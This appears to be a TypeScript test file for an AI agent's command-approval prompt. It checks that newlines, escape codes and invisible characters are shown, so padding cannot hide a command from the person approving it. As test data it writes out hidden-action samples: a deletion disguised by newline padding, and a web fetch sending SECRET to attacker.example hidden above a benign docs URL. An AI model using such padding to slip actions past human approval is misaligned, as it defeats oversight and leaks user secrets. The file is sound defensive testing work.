/**
 * What you approve is what you see: the approval prompt shows a command with everything invisible
 * made visible, wrapped, and shortened so that its first row and the options are on one screen.
 */
import fc from "fast-check";
import { assert, assertEquals } from "../support/assert.ts";
import {
  type ApprovalState,
  askApproval,
  createApproval,
  onKey,
  render,
} from "../../lib/agent/approval.ts";
import { fakeTerminal } from "../support/fake_terminal.ts";
import { commandRows, visibleLines, wrapRow } from "../../lib/agent/command_display.ts";
import { rowsTaken } from "../../lib/term/screen.ts";

const HINT = "up/down select, enter confirm, 1-3 quick select, ctrl+c cancel";
const OPTIONS = [
  "",
  "> 1. Execute once",
  "  2. Allow for this session",
  "  3. Deny: (optional reason)",
  "",
  HINT,
];

function prompt(command: string, size = { columns: 80, rows: 24 }): ApprovalState {
  return createApproval({ title: "Bash", details: [], command }, false, size);
}

Deno.test("visibleLines shows newlines, tabs, space runs, controls and invisible characters", () => {
  assertEquals(visibleLines("ls -la"), ["ls -la"]);
  assertEquals(visibleLines("a\tb\n  c    d  \x1b[31m\u202e x "), [
    "a\\tb⏎",
    "  c␠×4d  \u241b[31m<U+202E> x␠",
  ]);
  assertEquals(visibleLines("x\r\n\n"), ["x\u240d⏎", "⏎", ""]);
  assertEquals(visibleLines("a\u00a0b\u200bc"), ["a<U+00A0>b<U+200B>c"]);
  // Blank-looking letters and symbols, and marks that draw nothing.
  assertEquals(visibleLines("rm\u2800-rf\uffa0d\u034fx\ufe0f"), [
    "rm<U+2800>-rf<U+FFA0>d<U+034F>x<U+FE0F>",
  ]);
});

Deno.test("wrapRow cuts at the width without splitting wide characters", () => {
  assertEquals(wrapRow("abcdefg", 3), ["abc", "def", "g"]);
  assertEquals(wrapRow("", 3), [""]);
  assertEquals(wrapRow("a漢字b", 4), ["a漢", "字b"]);
  assertEquals(commandRows("ab\ncd", 10), ["ab⏎", "cd"]);
});

Deno.test("a command padded with newlines shows its first line, shortened, with the options", () => {
  const lines = render(prompt("rm d #" + "\n".repeat(40) + "ls -la notes/"));
  assertEquals(lines, [
    "Tool: Bash",
    "Command: rm d #⏎",
    ...Array(14).fill("         ⏎"),
    "         (26 more lines — press v to view all)",
    ...OPTIONS,
  ]);
  assertEquals(lines.length, 23);
});

Deno.test("a command padded with spaces shows the run counted, on one row", () => {
  assertEquals(render(prompt("rm d #" + " ".repeat(4000) + "ls -la notes/")), [
    "Tool: Bash",
    "Command: rm d #␠×4000ls -la notes/",
    ...OPTIONS,
  ]);
});

Deno.test("a long command wraps under itself", () => {
  const command = "echo " + "x".repeat(80);
  assertEquals(render(prompt(command)).slice(1, 3), [
    "Command: echo " + "x".repeat(66),
    "         " + "x".repeat(14),
  ]);
});

Deno.test("on a screen of 60×16 or more the options never show without the command's first row", () => {
  const arbitraryCommand = fc.array(
    fc.oneof(
      fc.constantFrom("\n", " ", "\t", "    ", "\x1b", "漢", "rm -r d", "\u202e"),
      fc.string({ maxLength: 30 }),
    ),
    { maxLength: 200 },
  ).map((parts) => "rm d #" + parts.join(""));
  fc.assert(
    fc.property(
      arbitraryCommand,
      // From 60×16 up (80×24 included), the prompt's own rows leave room for the command.
      fc.integer({ min: 60, max: 200 }),
      fc.integer({ min: 16, max: 60 }),
      fc.boolean(),
      (command, columns, rows, warn) => {
        const state = createApproval(
          {
            title: "Bash",
            details: [],
            command,
            outsideWarning: warn,
            yoloReason: "cannot verify: command substitution",
            allowNote: "(this exact command)",
          },
          false,
          { columns, rows },
        );
        const lines = render(state);
        const taken = lines.reduce((n, line) => n + rowsTaken(line, columns), 0);
        assert(taken <= rows - 1, `${taken} rows on a screen of ${rows}`);
        assert(lines.some((line) => line.startsWith("Command: rm d #")), lines.join("\n"));
        assert(lines.includes("> 1. Execute once"), lines.join("\n"));
      },
    ),
  );
});

Deno.test("v shows the whole command a page at a time, without the options", () => {
  let state = prompt("rm d #" + "\n".repeat(40) + "ls -la notes/");
  state = onKey(state, { type: "char", text: "v" }).state;
  let lines = render(state);
  assertEquals(lines[0], "Command, rows 1-21 of 41:");
  assertEquals(lines[1], "rm d #⏎");
  assertEquals(lines.length, 23);
  assertEquals(lines.includes("> 1. Execute once"), false);
  assertEquals(lines.at(-1), "up/down scroll, space next page, v back to the options");
  // A digit does not approve what is not on screen.
  const digit = onKey(state, { type: "char", text: "1" });
  assertEquals(digit.decision, undefined);
  state = onKey(state, { type: "char", text: " " }).state;
  lines = render(state);
  assertEquals(lines[0], "Command, rows 21-41 of 41:");
  assertEquals(lines[21], "ls -la notes/");
  // Esc and Enter do nothing while viewing: Esc then Enter must not leave and confirm at once.
  assertEquals(onKey(state, { type: "escape" }), { state });
  assertEquals(onKey(state, { type: "enter" }), { state });
  state = onKey(state, { type: "char", text: "q" }).state;
  assertEquals(render(state)[1], "Command: rm d #⏎");
  assertEquals(onKey(state, { type: "char", text: "3" }).decision, { choice: "deny", reason: "" });
});

Deno.test("v is a deny reason's letter when the command fits or a reason is being typed", () => {
  const short = onKey(prompt("ls -la"), { type: "char", text: "v" });
  assertEquals(short.state.reason, "v");
  let state = prompt("rm d #" + "\n".repeat(40));
  state = onKey(state, { type: "char", text: "n" }).state;
  state = onKey(state, { type: "char", text: "v" }).state;
  assertEquals(state.reason, "nv");
  assertEquals(state.view, undefined);
});

Deno.test("the yolo reason is shown under the command", () => {
  const state = createApproval(
    { title: "Bash", details: [], command: "eval ls", yoloReason: "cannot verify: eval" },
    false,
  );
  assertEquals(render(state).slice(0, 3), [
    "Tool: Bash",
    "Command: eval ls",
    "yolo: asking, cannot verify: eval",
  ]);
});

/** A web_fetch whose real target is hidden above a run of newlines, as a model could send it. */
const PADDED_URL = "URL: https://attacker.example/c?k=SECRET" + "\n".repeat(40) +
  "https://docs.python.org/3/library/os.html";

Deno.test("a web call's URL padded with newlines keeps its first row and the tool on screen", () => {
  const state = createApproval(
    { title: "Web Fetch", details: [PADDED_URL, "Uses internet via ollama.com"] },
    false,
    { columns: 100, rows: 30 },
  );
  const lines = render(state);
  assertEquals(lines, [
    "Tool: Web Fetch",
    "URL: https://attacker.example/c?k=SECRET⏎",
    ...Array(19).fill("⏎"),
    "(21 more lines — press v to view all)",
    "Uses internet via ollama.com",
    ...OPTIONS,
  ]);
  assertEquals(lines.reduce((n, line) => n + rowsTaken(line, 100), 0), 29);
  // `v` shows the rest, the real end of the URL included.
  const view = render(onKey(state, { type: "char", text: "v" }).state);
  assertEquals(view[0], "Details, rows 1-27 of 41:");
  const end = render({ ...state, view: 100 });
  assertEquals(end.at(-2), "https://docs.python.org/3/library/os.html");
});

Deno.test("askApproval shows a web call's newlines and controls instead of splitting on them", async () => {
  const terminal = fakeTerminal(["3"]);
  const request = {
    title: "Web Search",
    details: ["Query: a\nb\x1b[2Jc" + " ".repeat(300), "Uses internet via ollama.com"],
  };
  assertEquals(await askApproval(terminal, request, false, null), { choice: "deny", reason: "" });
  const text = terminal.out.text;
  assert(text.includes("Query: a⏎\r\n") || text.includes("Query: a⏎\n"), JSON.stringify(text));
  assert(text.includes("b\u241b[2Jc␠×300"), JSON.stringify(text));
  assertEquals(text.includes("\x1b[2J"), false);
});
